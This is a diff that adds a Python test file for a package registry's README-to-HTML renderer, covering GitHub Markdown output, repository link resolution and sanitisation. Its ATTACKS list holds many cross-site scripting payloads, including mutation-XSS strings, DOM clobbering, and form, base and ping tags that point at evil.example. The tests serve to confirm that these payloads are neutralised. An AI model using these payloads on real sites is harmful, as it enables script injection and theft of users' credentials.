@@ -1,0 +1,316 @@
+"""READMEs as HTML: GitHub's dialect, links into the repository, and nothing that harms a reader or the server."""
+
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import sync_playwright
+
+from registry_site.markdown import render_readme
+from registry_site.markdown.balanced_html import TAGS
+from registry_site.markdown.limits import MAX_HTML_CHARACTERS, MAX_TEXT_BYTES
+from tests.support.hostile_readmes import MAKERS
+
+pytestmark = pytest.mark.database_independent
+
+CHROMIUM = Path("/usr/bin/chromium")
+OPTIONS = ["--no-sandbox", "--host-resolver-rules=MAP * ~NOTFOUND"]
+REPOSITORY = "https://github.com/alice/tool"
+REL = 'rel="nofollow noopener noreferrer"'
+
+
+def render(text: str, path: str = "README.md", repository: str = REPOSITORY) -> str:
+    return render_readme(text, path, repository).strip()
+
+
+# Markdown and its HTML. REL stands for the `rel` of each link.
+DIALECT = [
+    (
+        "~~a~~ <https://a.b> www.a.b",
+        '<p><del>a</del> <a href="https://a.b" REL>https://a.b</a> <a href="http://www.a.b" REL>www.a.b</a></p>',
+    ),
+    (
+        "| a |\n|--:|\n| 1 |",
+        '<table>\n<thead>\n<tr>\n<th align="right">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
+        '<td align="right">1</td>\n</tr>\n</tbody>\n</table>',
+    ),
+    (
+        "- [x] a",
+        '<ul class="contains-task-list">\n<li class="task-list-item">'
+        '<input checked="" disabled="" type="checkbox"> a</li>\n</ul>',
+    ),
+    (
+        "> [!NOTE]\n> a",
+        '<div class="markdown-alert markdown-alert-note">\n<p class="markdown-alert-title">Note</p>\n<p>a</p>\n</div>',
+    ),
+    (
+        "```rust,no_run\nfn a() {}\n```",
+        '<pre><code class="language-rust"><span class="k">fn</span> <span class="nf">a</span>'
+        '<span class="p">(</span><span class="p">)</span> <span class="p">{</span><span class="p">}</span>'
+        "\n</code></pre>",
+    ),
+    (
+        "```mermaid\na < b\n```",
+        '<pre><code class="language-mermaid">a &lt; b\n</code></pre>',
+    ),
+    (
+        "```\na\n```",
+        "<pre><code>a\n</code></pre>",
+    ),
+    (
+        "<details open><summary>a</summary>\n\n**b**\n</details>",
+        '<details open=""><summary>a</summary>\n<p><strong>b</strong></p>\n</details>',
+    ),
+    (
+        '<p align="center"><img src="https://a.b/c" width="9"><kbd>a</kbd><sub>b</sub><sup>c</sup></p>',
+        '<p align="center"><img src="https://a.b/c" width="9"><kbd>a</kbd><sub>b</sub><sup>c</sup></p>',
+    ),
+    (
+        "<b><i>a</b></i> Vec<T> a < b",
+        "<p><b><i>a</i></b> Vec a &lt; b</p>",
+    ),
+    (
+        "<script>a</script>",
+        "&lt;script&gt;a&lt;/script&gt;",
+    ),
+    (
+        "<!-- a -->b",
+        "b",
+    ),
+]
+
+
+def test_dialect_is_that_of_github() -> None:
+    rendered = [(text, render(text).replace(REL, "REL")) for text, _ in DIALECT]
+    assert rendered == DIALECT
+
+
+def test_headings_have_anchors_that_links_reach() -> None:
+    html = render("# A `b` & c!\n\nd\n===\n\n# d\n\n<h2 align=center>É</h2>\n\n[x](#d-1)")
+    anchors = [value for name, value in attributes(html) if name == "id"]
+    assert anchors == [f"user-content-{slug}" for slug in ("a-b--c", "d", "d-1", "é")]
+    assert [value for name, value in attributes(html) if name == "href"] == [
+        *(f"#{a}" for a in anchors),
+        f"#{anchors[2]}",
+    ]
+
+
+def test_footnotes_link_back_and_forth() -> None:
+    ids, links = ([v for n, v in attributes(render("a[^1]\n\n[^1]: b")) if n == name] for name in ("id", "href"))
+    assert ids == ["user-content-fnref-1", "user-content-fn-1"]
+    assert links == ["#user-content-fn-1", "#user-content-fnref-1"]
+
+
+LINKS = [
+    (REPOSITORY, "README.md", "docs/a.md#b", f"{REPOSITORY}/blob/HEAD/docs/a.md#b"),
+    (f"{REPOSITORY}.git", "README.md", "./a/../b", f"{REPOSITORY}/blob/HEAD/b"),
+    (f"{REPOSITORY}/tree/main/sub/", "sub/README.md", "../../../LICENSE", f"{REPOSITORY}/blob/HEAD/LICENSE"),
+    (REPOSITORY, "sub/README.md", "a.png?b", f"{REPOSITORY}/raw/HEAD/sub/a.png?b"),
+    (REPOSITORY, "sub/README.md", "/a.svg", f"{REPOSITORY}/raw/HEAD/a.svg?sanitize=true"),
+    ("http://www.gitlab.com/a/b/c/-/tree/x", "README.md", "d", "https://gitlab.com/a/b/c/blob/HEAD/d"),
+    ("https://bitbucket.org/a/b", "README.md", "c", "https://bitbucket.org/a/b/src/HEAD/c"),
+    ("https://codeberg.org/a/b", "README.md", "c.gif", "https://codeberg.org/a/b/raw/branch/HEAD/c.gif"),
+    (REPOSITORY, "README.md", "//a.b/c", "https://a.b/c"),
+    (REPOSITORY, "README.md", "::a", None),
+    (REPOSITORY, "README.md", "a::b", None),
+    ("https://git.example/a/b", "README.md", "c", None),
+    ("https://github.com/a", "README.md", "c", None),
+    ("https://github.com/a/b\"><script>", "README.md", "c", None),
+    ("https://[", "README.md", "c", None),
+    ("", "README.md", "c", None),
+]  # fmt: skip
+
+
+def test_relative_links_lead_into_the_repository() -> None:
+    offenders = []
+    for repository, path, link, expected in LINKS:
+        for text in (f"[a]({link})", f'<img src="{link}">'):
+            urls = [value for name, value in attributes(render(text, path, repository)) if name in {"href", "src"}]
+            if urls != ([expected] if expected else []):
+                offenders.append((repository, link, urls))
+    assert offenders == []
+
+
+def test_images_to_choose_from_are_resolved() -> None:
+    html = render('<picture><source srcset="a.png 1x, data:b 2x, https://c.d/e"><img src="a.png"></picture>')
+    raw = f"{REPOSITORY}/raw/HEAD/a.png"
+    assert f'<picture><source srcset="{raw} 1x, https://c.d/e"><img src="{raw}"></picture>' in html
+
+
+def test_other_texts_are_shown_as_they_are() -> None:
+    for path in ("README.txt", "README.rst", "README", ""):
+        assert render("# <a>\r\n\0&", path) == "<pre># &lt;a&gt;\r\n\N{REPLACEMENT CHARACTER}&amp;</pre>"
+
+
+def test_long_text_is_shown_as_it_is() -> None:
+    assert render("a" * MAX_TEXT_BYTES).startswith("<p>a")
+    assert render("a" * (MAX_TEXT_BYTES + 1)).startswith("<pre>a")
+
+
+def test_hostile_readme_ends_as_html_or_text() -> None:
+    """Check the shape; `benchmarks.readmes` measures the time at full size."""
+    offenders = []
+    for name, make in MAKERS.items():
+        html = render(make(32 * 1024))
+        if len(html) > MAX_HTML_CHARACTERS or harm(html):
+            offenders.append(name)
+        if not render(make(512 * 1024)).startswith("<pre>"):
+            offenders.append(f"{name}, 512 KiB")
+    assert offenders == []
+
+
+ATTACKS = """\
+[a](javascript:hit())
+[a](JaVaScRiPt:hit())
+[a](java&#10;script:hit())
+[a](&#1;javascript:hit())
+[a](vbscript:hit())
+[a](data:text/html,<script>hit()</script>)
+![a](data:image/svg+xml,<svg/onload=hit()>)
+![a](https://a.b/"onerror="hit())
+![a](x "onerror=hit()")
+<javascript:hit()>
+[a]: javascript:hit()
+<a href=javascript:hit()>a</a>
+<a href="&#106;avascript:hit()">a</a>
+<a href=" javascript:hit()">a</a>
+<a href="https://a.b" target=_blank onclick=hit()>a</a>
+<img src=x onerror=hit()>
+<img/src=x/onerror=hit()>
+<img src="x"onerror="hit()">
+<img src='a>b' onerror='hit()'>
+<IMG SRC=x OnErRoR=hit()>
+<img src=`a` onerror=hit()>
+<img srcset="javascript:hit() 1x">
+<picture><source srcset="data:image/svg+xml,a"></picture>
+<svg onload=hit()>
+<svg><script>hit()</script></svg>
+<svg><animate onbegin=hit() attributeName=a></svg>
+<svg><a xlink:href="javascript:hit()"><text>a</text></a></svg>
+<math href="javascript:hit()">a</math>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
+<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">
+<noscript><p title="</noscript><img src=x onerror=hit()>">
+<style><img src="</style><img src=x onerror=hit()>">
+<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>
+<title><img src=x onerror=hit()></title>
+<xmp><img src=x onerror=hit()></xmp>
+<plaintext><img src=x onerror=hit()>
+<iframe src="javascript:hit()"></iframe>
+<iframe srcdoc="<script>hit()</script>"></iframe>
+<object data="javascript:hit()"></object>
+<embed src="javascript:hit()">
+<base href="https://evil.example/">
+<meta http-equiv=refresh content="0;url=javascript:hit()">
+<link rel=stylesheet href="https://evil.example/a.css">
+<form action="https://evil.example/"><input name=password><button formaction=javascript:hit()>a</button></form>
+<input type=image src=x onerror=hit()>
+<input autofocus onfocus=hit()>
+<details ontoggle=hit() open>a</details>
+<div style="background:url(javascript:hit())">a</div>
+<div style="position:fixed;inset:0">a</div>
+<style>*{background:red}</style>
+<b class="anything else">a</b>
+<a id=login name=location>a</a>
+<h1 id="document">a</h1>
+<img id=cookie name=getElementById>
+<video src=x onerror=hit() controls></video>
+<audio src=x onerror=hit()></audio>
+<marquee onstart=hit()>a</marquee>
+<template><img src=x onerror=hit()></template>
+<a href="https://a.b" ping="https://evil.example">a</a>
+<!--><img src=x onerror=hit()>-->
+<!-- --!><img src=x onerror=hit()> -->
+<![CDATA[<img src=x onerror=hit()>]]>
+<?php <img src=x onerror=hit()> ?>
+<scr<script>ipt>hit()</scr</script>ipt>
+<<script>hit()//<</script>
+<a:b onclick=hit()>a
+```"><img/src=x/onerror=hit()>
+```rust"onmouseover="hit()
+[^"><img src=x onerror=hit()>]
+# <img src=x onerror=hit()>"onclick="hit()
+> [!NOTE]<img src=x onerror=hit()>
+|<img src=x onerror=hit()>|
+""".splitlines()
+
+SAFE_ATTRIBUTES = (
+    "align", "alt", "aria-label", "checked", "cite", "class", "colspan", "datetime", "dir", "disabled", "height",
+    "href", "hreflang", "id", "lang", "media", "name", "open", "rel", "reversed", "rowspan", "scope", "size", "span",
+    "src", "srcset", "start", "title", "type", "valign", "value", "width",
+)  # fmt: skip
+
+
+class Harm(HTMLParser):
+    """Collects what a README must not have on a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.attributes: list[tuple[str, str]] = []
+        self.harm: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.attributes += [(name, value or "") for name, value in attrs]
+        if tag not in TAGS:
+            self.harm.append(tag)
+        for name, value in attrs:
+            url = (value or "").lower()
+            if (
+                name not in SAFE_ATTRIBUTES
+                or (
+                    name in {"href", "src"} and not url.startswith(("https://", "http://", "mailto:", "#user-content-"))
+                )
+                or (name == "srcset" and ("javascript:" in url or "data:" in url))
+                or (name in {"id", "name"} and not url.startswith("user-content-"))
+            ):
+                self.harm.append(f"{tag} {name}={value}")
+
+
+def read(html: str) -> Harm:
+    reader = Harm()
+    reader.feed(html)
+    reader.close()
+    return reader
+
+
+def attributes(html: str) -> Iterator[tuple[str, str]]:
+    return iter(read(html).attributes)
+
+
+def harm(html: str) -> list[str]:
+    return read(html).harm
+
+
+def test_attacks_come_out_harmless() -> None:
+    texts = [*ATTACKS, "\n\n".join(ATTACKS), *(f"a {attack} b" for attack in ATTACKS)]
+    assert [(text, parts) for text in texts if (parts := harm(render(text)))] == []
+
+
+def test_links_of_a_readme_are_not_followed() -> None:
+    html = render("[a](https://a.b) <a href=https://a.b rel=opener target=_top>b</a>")
+    assert [value for name, value in attributes(html) if name in {"rel", "target"}] == [
+        "nofollow noopener noreferrer"
+    ] * 2
+
+
+@pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is not installed")
+def test_no_script_of_a_readme_runs() -> None:
+    readmes = "".join(f"<div>{render(attack)}</div>" for attack in [*ATTACKS, "\n\n".join(ATTACKS)])
+    with (
+        sync_playwright() as playwright,
+        playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS) as browser,
+    ):
+        page = browser.new_page()
+        page.add_init_script("window.runs = []; window.hit = (name = 'readme') => runs.push(name)")
+        page.route(
+            "**/*",
+            lambda route: route.fulfill(
+                content_type="text/html", body=f"<!doctype html>{readmes}<img src=x onerror=hit('ours')>"
+            ),
+        )
+        page.goto("http://registry.example/")
+        page.wait_for_function("runs.includes('ours')")  # a script that can run does
+        assert page.evaluate("runs") == ["ours"]
+        assert page.evaluate("[...document.links].map(link => link.protocol).filter(it => it == 'javascript:')") == []
+        assert page.evaluate("[typeof document.cookie, typeof document.getElementById]") == ["string", "function"]
